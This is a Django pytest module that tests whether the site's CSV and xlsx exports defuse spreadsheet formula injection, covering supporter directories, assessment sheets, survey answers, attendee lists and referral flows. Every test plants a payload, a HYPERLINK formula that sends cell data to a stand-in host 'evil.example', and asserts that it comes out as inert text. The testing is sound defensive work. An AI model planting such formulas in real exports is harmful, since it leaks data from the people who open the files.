"""Every CSV and xlsx the site produces goes through the kernel's writer: a comment that
starts with ``=`` (or +, -, @) is shown as text, never run as a formula."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessments.models import PlanItem
from config.spreadsheets import FORMULA_TRIGGERS
from seminars.models import Application
from tests.assessments.factories import expert_with_account, hold_meetings, make_assessment
from tests.downloads import csv_rows
from tests.factories import SupporterFactory, UserFactory, login_staff, make_staff
from tests.referrals.factories import ReferralFactory
from tests.seminars.factories import ApplicationFactory, SurveyFactory

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'


def assert_csv_is_safe(rows, *, shows):
    cells = [cell for row in rows for cell in row]
    assert "'" + shows in cells, "the formula is shown as text"
    for cell in cells:
        assert cell[:1] not in FORMULA_TRIGGERS or cell.lstrip("-").replace(".", "").isdigit(), cell


def assert_xlsx_is_safe(content: bytes, *, shows):
    workbook = load_workbook(io.BytesIO(content))  # formulas as stored, not their cached values
    found = False
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_TRIGGERS:
                    assert cell.quotePrefix, f"{cell.coordinate} would turn into a formula when edited"
                found = found or cell.value == shows or (isinstance(cell.value, str) and shows in cell.value)
    assert found, "the text is there, as text"


def test_directory_csv(client):
    SupporterFactory(self_pr=EVIL, organization="+81-3-0000-0000")
    assert_csv_is_safe(csv_rows(client.get(reverse("supporters:export-csv"))), shows=EVIL)


def test_staff_xlsx_export(client):
    supporter = SupporterFactory(self_pr=EVIL, contact_email="x@example.jp")
    login_staff(client, make_staff())
    response = client.post(
        "/admin/supporters/supporter/", {"action": "export_xlsx", "_selected_action": [supporter.pk]}
    )
    assert_xlsx_is_safe(response.content, shows=EVIL)


def test_assessment_sheet_and_plan_xlsx(client):
    company_user = UserFactory(email="company@example.jp")
    _, expert = expert_with_account()
    assessment = make_assessment(company_user=company_user, expert=expert, stage="planning")
    assessment.rows.update(company_comment=EVIL, expert_comment="@SUM(1,2)")
    plan = assessment.plans.get()
    plan.evaluation_summary = "-1+1"
    plan.save()
    PlanItem.objects.filter(plan=plan).update(content=EVIL, timing="=NOW()")
    hold_meetings(assessment)
    client.force_login(company_user)
    assert_xlsx_is_safe(client.get(reverse("assessments:sheet-xlsx", args=[assessment.pk])).content, shows=EVIL)
    assert_xlsx_is_safe(client.get(reverse("assessments:plan-xlsx", args=[assessment.pk])).content, shows=EVIL)


def test_survey_answers_csv(client):
    from seminars.surveys import add_default_questions

    survey = SurveyFactory()
    add_default_questions(survey)
    survey.questions.create(text=EVIL, kind="text", order=99)  # staff-typed text is defused too
    login_staff(client, make_staff())
    rows = csv_rows(client.get(reverse("seminars:survey-csv", args=[survey.pk])))
    assert_csv_is_safe(rows, shows=EVIL)


def test_attendee_list_csv(client):
    application = ApplicationFactory(question=EVIL, organization="@営業部", status=Application.Status.CONFIRMED)
    login_staff(client, make_staff())
    response = client.post(
        "/admin/seminars/application/", {"action": "export_csv", "_selected_action": [application.pk]}
    )
    rows = csv_rows(response)
    assert rows[0][:4] == ["イベント", "状態", "出席", "氏名"]
    assert_csv_is_safe(rows, shows=EVIL)
    assert "no-store" in response["Cache-Control"]


def test_case_flow_csv(client):
    ReferralFactory(supporter=SupporterFactory(name=EVIL, user=UserFactory()))
    login_staff(client, make_staff())
    rows = csv_rows(client.get(reverse("referrals:flow-csv")))
    for cell in (cell for row in rows for cell in row):
        assert cell[:1] not in FORMULA_TRIGGERS
    assert any(EVIL in cell for row in rows for cell in row)
